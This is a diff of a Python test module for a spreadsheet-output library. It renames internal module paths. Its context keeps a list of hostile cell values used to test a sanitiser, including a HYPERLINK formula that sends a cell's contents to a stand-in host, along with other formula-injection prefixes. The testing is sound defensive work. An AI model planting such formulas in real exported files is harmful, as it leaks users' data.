@@ -1,4 +1,4 @@
-"""terreinen._io: safe cells, the file name decides the format, outputs never replace inputs,
+"""terreinen.io.write: safe cells, the file name decides the format, outputs never replace inputs,
 atomic writes (modes, links, devices, full disk, signals)."""
 
 from __future__ import annotations
@@ -18,8 +18,8 @@ import pytest
 import shapely
 from conftest import ROOT, X0, Y0, frame, parcel, rect
 
-from terreinen._errors import TerreinenWriteError
-from terreinen._io import atomic_path, csv_text, refuse_inputs, safe_cell, write_table
+from terreinen.errors import TerreinenWriteError
+from terreinen.io.write import atomic_path, csv_text, refuse_inputs, safe_cell, write_table
 
 HOSTILE = ['=HYPERLINK("http://x/?"&A1,"Klik")', "+1", "-2", "@SUM(A1)", "\tx", "\rx", "'=x"]
 
